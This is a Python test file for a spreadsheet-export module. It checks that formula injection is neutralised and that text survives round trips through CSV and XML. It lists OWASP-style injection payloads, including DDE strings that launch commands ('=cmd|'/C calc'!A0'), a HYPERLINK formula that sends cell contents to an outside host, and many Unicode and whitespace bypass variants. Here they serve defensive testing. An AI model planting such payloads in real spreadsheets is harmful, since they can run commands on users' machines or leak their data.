"""Spreadsheet cells: nothing of ours becomes a formula, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.work.cells import from_xml, guarded, to_xml, unguarded, whole

# The letters that OWASP's page and the known bypasses are made of, far more often than chance would draw them.
NASTY = st.text(
    st.one_of(st.sampled_from("=+-@'＝＋－＠\t\r\n;, \xa0\u200b\ufeff\x00\"|!a1"), st.characters()), max_size=30
)

OWASP = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+1",
    "-2+3+cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.test?x="&A1,"here")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "\x00=1+1",
    "\x1d=1+1",
    "'=1+1",
    "' =1+1",
    "''=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u00ad=1+1",
    "\u2060=1+1",
    "\u2007=1+1",
    "  \xa0\t =1+1",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "harmless\n=1+1",
    "harmless\r=1+1",
    "harmless\r\n  @SUM(1)",
    "harmless\u2028=1+1",
    "harmless;=1+1",
    "harmless;'=1+1",
    "harmless\t-1",
    'harmless",=1+1',
    "+525512345678",
    "-",
    "\t",
    "\r\n",
]


def dangerous(cell: str) -> bool:
    """The judge, in words of its own: a tab or a return in front, or a formula's mark first in what may be a cell."""
    if cell[:1] in {"\t", "\r", "\n"}:
        return True
    for part in re.split("[\t\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029;]", cell):
        seen = [letter for letter in part if unicodedata.category(letter) not in {"Cc", "Cf", "Zs", "Zl", "Zp"}]
        if seen and unicodedata.normalize("NFKC", seen[0])[0] in "=+-@" and seen[0] not in "⁼₌⁺₊⁻₋":
            return True
    return False


@pytest.mark.parametrize("text", OWASP)
def test_known_attacks_and_bypasses_are_neutralised_and_come_back(text: str) -> None:
    assert dangerous(text) or text.startswith("'") or '"' in text or ";'" in text
    assert not dangerous(guarded(text))
    assert unguarded(guarded(text)) == text


@given(NASTY)
@settings(max_examples=200)
def test_no_text_is_a_formula_and_every_text_comes_back(text: str) -> None:
    cell = guarded(text)
    assert not dangerous(cell)
    assert unguarded(cell) == text


@given(st.lists(NASTY, min_size=1, max_size=4))
@settings(max_examples=100)
def test_texts_come_back_through_a_csv_file(texts: list[str]) -> None:
    texts = [whole(text) for text in texts]
    file = io.StringIO(newline="")
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow([guarded(text) for text in texts])
    (line,) = csv.reader(io.StringIO(file.getvalue(), newline=""), strict=True)
    assert [unguarded(cell) for cell in line] == texts


@pytest.mark.parametrize(
    "text", ["", "José", "O'Neill", "'quoted'", "490154203237518", "a-b", "2026-11-22T09:00Z", "•••• 3809"]
)
def test_ordinary_texts_are_left_alone(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(NASTY.map(whole))
@settings(max_examples=200)
def test_texts_come_back_from_xml(text: str) -> None:
    assert from_xml(to_xml(text)) == text


def test_an_overlong_text_is_cut_for_a_sheet_and_half_characters_are_replaced() -> None:
    assert to_xml("a" * 40_000) == "a" * 32_766 + "…"
    assert whole("a\ud800b") == "a\ufffdb"
    assert from_xml("_xD800_ _x0041_ _x005F_x0041_") == "_xD800_ A _x0041_"
